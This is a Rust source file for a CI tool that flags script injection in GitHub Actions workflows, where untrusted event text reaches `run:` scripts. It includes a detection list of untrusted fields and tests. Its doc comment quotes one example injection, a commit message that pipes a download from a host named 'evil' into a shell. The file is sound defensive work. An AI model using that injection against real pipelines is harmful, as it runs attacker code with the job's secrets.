//! Script injection: an expression over untrusted event data (a commit message, a branch
//! name, a pull request's title) expanded straight into a `run:` script is pasted into the
//! shell before it runs, so a commit message such as `"; curl evil | sh; "` runs commands
//! with the job's secrets. GitHub's "Security hardening for GitHub Actions" lists these fields;
//! the fix it recommends is an intermediate environment variable:
//!
//! ```yaml
//! - env:
//!     MESSAGE: ${{ github.event.head_commit.message }}
//!   run: echo "$MESSAGE"
//! ```
//!
//! kiln flags each one as a warning carried on the decoded workflow (`Workflow::warnings`),
//! shown by `kiln ci validate` and before every run, and runs the workflow as GitHub does:
//! whoever can push to a branch kiln follows can change the workflow itself, and kiln runs no
//! `pull_request_target` or issue events, where outsiders write the text. The same expression
//! under `env:`, `with:` or `if:` is fine, and so is
//! one whose value cannot hold the text: `${{ contains(github.event.head_commit.message,
//! '[skip ci]') }}` puts `true` or `false` in the script (a real-world pattern GitHub runs).

use kiln_expr::ParseOptions;
use kiln_expr::{Template, TemplatePart};
use kiln_spec::diag::{Code, Diagnostic};

use crate::workflow::Text;

/// Fields under `github.` that someone outside the repository's writers controls. A reference
/// is untrusted when its path starts with one of these (`*` matches any one name).
const UNTRUSTED: &[&str] = &[
    "head_ref",
    "event.issue.title",
    "event.issue.body",
    "event.pull_request.title",
    "event.pull_request.body",
    "event.pull_request.head.ref",
    "event.pull_request.head.label",
    "event.pull_request.head.repo.default_branch",
    "event.comment.body",
    "event.review.body",
    "event.review_comment.body",
    "event.discussion.title",
    "event.discussion.body",
    // `commits.*.message`, `pages.*.page_name`: a reference's path stops at `*` or an index,
    // so any reference to these lists is one to their untrusted fields.
    "event.commits",
    "event.pages",
    "event.head_commit.message",
    "event.head_commit.author.email",
    "event.head_commit.author.name",
    "event.workflow_run.head_branch",
    "event.workflow_run.head_commit.message",
    "event.workflow_run.head_commit.author.email",
    "event.workflow_run.head_commit.author.name",
];

/// The injection risks in a `run:` script at `path`; `source` is the file's text, to place
/// each one exactly even inside a block scalar.
pub(crate) fn check(
    text: &Text,
    path: &str,
    source: &str,
    opts: &ParseOptions<'_>,
) -> Vec<Diagnostic> {
    let Ok(template) = Template::parse(&text.text, opts) else {
        return Vec::new();
    };
    let raw = source.get(text.span.start..text.span.end).unwrap_or("");
    let expressions: Vec<(usize, usize)> = template
        .parts()
        .iter()
        .filter_map(|part| match part {
            TemplatePart::Expr { offset, len, .. } => Some((*offset, *offset + *len)),
            TemplatePart::Literal(_) => None,
        })
        .collect();
    template
        .references()
        .into_iter()
        .filter(|r| is_untrusted(&r.path))
        .filter(|r| {
            expressions
                .iter()
                .find(|(start, end)| (*start..*end).contains(&r.offset))
                .and_then(|(start, end)| text.text.get(*start..*end).map(|e| (e, *start)))
                .is_none_or(|(expression, start)| {
                    reaches_value(expression, r.offset - start, r.len)
                })
        })
        .map(|r| {
            let field = r.path.join(".");
            let written = text.text.get(r.offset..r.offset + r.len).unwrap_or(&field);
            let span = locate(raw, &text.text, r.offset, written)
                .map_or(text.span, |start| text.span.sub(start, written.len()));
            let var = env_name(&r.path);
            // The value to move into `env:` is the whole expression the reference is in: for
            // `join(github.event.commits.*.message, ',')` the bare reference is a list, which
            // GitHub refuses as an environment variable's value.
            let value = expressions
                .iter()
                .find(|(start, end)| (*start..*end).contains(&r.offset))
                .and_then(|(start, end)| text.text.get(*start..*end))
                .map_or_else(|| format!("${{{{ {field} }}}}"), str::to_owned);
            Diagnostic::new(
                Code::InjectionRisk,
                span,
                path,
                format!("`{field}` is untrusted input expanded into the script: its text would run as shell code"),
            )
            .label("untrusted input in `run:`")
            .help(format!(
                "pass it through the environment: add `env: {{ {var}: {value} }}` to the step and use \"${var}\" in the script"
            ))
        })
        .collect()
}

/// Functions whose result is a boolean whatever their arguments hold.
const BOOLEAN_FUNCTIONS: &[&str] = &["contains", "startsWith", "endsWith"];

/// Whether the value of the reference at `start..start + len` of `expression` (the whole
/// `${{ … }}`) can reach the expression's result. It cannot when, at some level of calls and
/// parentheses around it, it is negated, compared (`==`, `!=`, `<`, `<=`, `>`, `>=`) or an
/// argument of `contains`/`startsWith`/`endsWith`: those give `true` or `false`, not its text.
/// Anything else (`||`, `format`, `toJSON`, `join`, …) passes the text on.
fn reaches_value(expression: &str, start: usize, len: usize) -> bool {
    let code = mask_strings(expression);
    let (mut start, mut end) = (start, postfix_end(&code, start + len));
    // Each round widens the span by one enclosing call or parenthesis, so this ends.
    loop {
        let before = code[..start].trim_end();
        let after = code[end..].trim_start();
        let negated = before.ends_with('!');
        // Every comparison operator ends in `=`, `<` or `>`; no other operator does.
        let compared = before.ends_with(['=', '<', '>'])
            || ["==", "!=", "<", ">"]
                .iter()
                .any(|op| after.starts_with(op));
        if negated || compared {
            return false;
        }
        let Some(open) = unmatched_open(&code[..start]) else {
            return true;
        };
        let name_start = code[..open]
            .rfind(|c: char| !(c.is_ascii_alphanumeric() || c == '_'))
            .map_or(0, |i| i + 1);
        let name = &code[name_start..open];
        if BOOLEAN_FUNCTIONS
            .iter()
            .any(|f| f.eq_ignore_ascii_case(name))
        {
            return false;
        }
        let Some(close) = matching_close(&code, open) else {
            return true;
        };
        start = name_start;
        end = postfix_end(&code, close + 1);
    }
}

/// Replaces the inside of every `'…'` literal with spaces (`''` escapes toggle twice), so
/// parentheses and operators are only found in code; byte offsets stay the same.
fn mask_strings(expression: &str) -> String {
    let mut in_string = false;
    let mut out = String::with_capacity(expression.len());
    for c in expression.chars() {
        if c == '\'' {
            in_string = !in_string;
            out.push(c);
        } else if in_string {
            out.extend(std::iter::repeat_n(' ', c.len_utf8()));
        } else {
            out.push(c);
        }
    }
    out
}

/// The end of the property, index and `*` accesses that follow a value at `end`.
fn postfix_end(code: &str, mut end: usize) -> usize {
    let bytes = code.as_bytes();
    while end < bytes.len() {
        match bytes[end] {
            b'.' => {
                end += 1;
                while end < bytes.len()
                    && (bytes[end].is_ascii_alphanumeric()
                        || matches!(bytes[end], b'_' | b'-' | b'*'))
                {
                    end += 1;
                }
            }
            b'[' => match matching(code, end, b'[', b']') {
                Some(close) => end = close + 1,
                None => return bytes.len(),
            },
            _ => break,
        }
    }
    end
}

/// The last `(` in `code` that is not closed within it.
fn unmatched_open(code: &str) -> Option<usize> {
    let mut depth = 0usize;
    for (i, b) in code.bytes().enumerate().rev() {
        match b {
            b')' => depth += 1,
            b'(' if depth == 0 => return Some(i),
            b'(' => depth -= 1,
            _ => {}
        }
    }
    None
}

fn matching_close(code: &str, open: usize) -> Option<usize> {
    matching(code, open, b'(', b')')
}

/// The index of the bracket closing the one at `open`.
fn matching(code: &str, open: usize, left: u8, right: u8) -> Option<usize> {
    let mut depth = 0usize;
    for (i, b) in code.bytes().enumerate().skip(open) {
        if b == left {
            depth += 1;
        } else if b == right {
            depth -= 1;
            if depth == 0 {
                return Some(i);
            }
        }
    }
    None
}

fn is_untrusted(path: &[String]) -> bool {
    let Some(("github", rest)) = path.split_first().map(|(h, r)| (h.as_str(), r)) else {
        return false;
    };
    UNTRUSTED.iter().any(|field| {
        let parts: Vec<&str> = field.split('.').collect();
        rest.len() >= parts.len()
            && parts
                .iter()
                .zip(rest)
                .all(|(want, got)| *want == "*" || got.eq_ignore_ascii_case(want))
    })
}

/// Where the `n`-th occurrence of `written` in the processed text is in the raw source: block
/// scalars drop indentation, so offsets differ, but a one-line expression is spelled the same.
fn locate(raw: &str, text: &str, offset: usize, written: &str) -> Option<usize> {
    if written.is_empty() || written.contains('\n') {
        return None;
    }
    let nth = text.get(..offset)?.matches(written).count();
    raw.match_indices(written).nth(nth).map(|(at, _)| at)
}

/// `github.event.head_commit.message` → `HEAD_COMMIT_MESSAGE`.
fn env_name(path: &[String]) -> String {
    let tail: Vec<&str> = path
        .iter()
        .map(String::as_str)
        .filter(|p| !matches!(*p, "github" | "event"))
        .collect();
    let tail = &tail[tail.len().saturating_sub(2)..];
    tail.join("_").to_ascii_uppercase().replace('-', "_")
}

#[cfg(test)]
mod tests {
    use super::*;

    fn path(text: &str) -> Vec<String> {
        text.split('.').map(str::to_owned).collect()
    }

    #[test]
    fn untrusted_fields_are_recognised() {
        for field in [
            "github.head_ref",
            "github.event.head_commit.message",
            "github.event.pull_request.title",
            "github.event.pull_request.head.ref",
            "github.event.commits",
            "github.event.issue.body",
            "github.event.comment.body",
        ] {
            assert!(is_untrusted(&path(field)), "{field}");
        }
        for field in [
            "github.sha",
            "github.ref",
            "github.event.head_commit.id",
            "github.event.pull_request.number",
            "env.MESSAGE",
            "steps.x.outputs.y",
        ] {
            assert!(!is_untrusted(&path(field)), "{field}");
        }
        assert_eq!(
            env_name(&path("github.event.head_commit.message")),
            "HEAD_COMMIT_MESSAGE"
        );
        assert_eq!(env_name(&path("github.head_ref")), "HEAD_REF");
    }

    /// The risks `check` finds in `echo ${{ expression }} done`.
    fn risks(expression: &str) -> Vec<Diagnostic> {
        let opts = ParseOptions {
            named_values: &["github", "env", "matrix", "steps"],
            extra_functions: kiln_expr::WORKFLOW_FUNCTIONS,
        };
        let text = Text {
            text: format!("echo ${{{{ {expression} }}}} done"),
            span: kiln_spec::source::Span::new(kiln_spec::source::FileId(0), 0, 0),
        };
        check(&text, "run", "", &opts)
    }

    fn risky(expression: &str) -> bool {
        !risks(expression).is_empty()
    }

    /// GitHub's hardening guide is about untrusted text reaching the script: a value computed
    /// from it that cannot hold it (`true`/`false`) is no injection.
    #[test]
    fn only_expressions_whose_value_can_hold_the_text_are_risks() {
        for expression in [
            "github.event.head_commit.message",
            "github.head_ref || 'main'",
            "format('x{0}', github.event.pull_request.title)",
            "toJSON(github.event.commits)",
            "github.event.commits[0].message",
            "join(github.event.commits.*.author.name, ',')",
            "fromJSON(github.event.issue.body).cmd",
            "github.event_name == 'push' && github.event.pull_request.body",
            "contains(github.sha, 'a') && github.head_ref",
            "(github.head_ref)",
            "format('{0}', contains(github.head_ref, 'x'), github.head_ref)",
            "contains(github.sha, ')') || github.head_ref",
        ] {
            assert!(risky(expression), "{expression}");
        }
        for expression in [
            "contains(github.event.head_commit.message, '[skip ci]')",
            "startsWith(github.head_ref, 'release/')",
            "ENDSWITH(format('{0}', github.head_ref), 'x') && 'yes' || 'no'",
            "github.event.pull_request.title == 'x'",
            "'x' != github.event.commits[0].message",
            "github.event.issue.title >= 'a'",
            "contains(github.event.issue.title, '状态') || 'x'",
            "!github.event.issue.body",
            "!(github.head_ref || github.event.issue.title)",
            "(github.head_ref || 'a') == 'b'",
            "github.sha",
        ] {
            assert!(!risky(expression), "{expression}");
        }
    }

    fn help(expression: &str) -> Option<String> {
        risks(expression).first().and_then(|d| d.help.clone())
    }

    /// The fix the help gives must work on GitHub: an environment variable's value cannot be
    /// a list, so a reference inside a call moves to `env:` with the whole expression.
    #[test]
    fn the_help_moves_the_whole_expression_into_env() {
        assert_eq!(
            help("github.event.pull_request.title").as_deref(),
            Some(
                "pass it through the environment: add `env: { PULL_REQUEST_TITLE: ${{ github.event.pull_request.title }} }` to the step and use \"$PULL_REQUEST_TITLE\" in the script"
            )
        );
        assert_eq!(
            help("join(github.event.commits.*.message, ',')").as_deref(),
            Some(
                "pass it through the environment: add `env: { COMMITS: ${{ join(github.event.commits.*.message, ',') }} }` to the step and use \"$COMMITS\" in the script"
            )
        );
    }

    #[test]
    fn a_block_scalar_expression_is_found_in_the_source() {
        let raw = "|\n  echo one\n  echo ${{ github.head_ref }} ${{ github.head_ref }}\n";
        let text = "echo one\necho ${{ github.head_ref }} ${{ github.head_ref }}\n";
        let second = text.rfind("github.head_ref").unwrap_or(0);
        let at = locate(raw, text, second, "github.head_ref");
        assert_eq!(at, raw.rfind("github.head_ref"));
    }
}
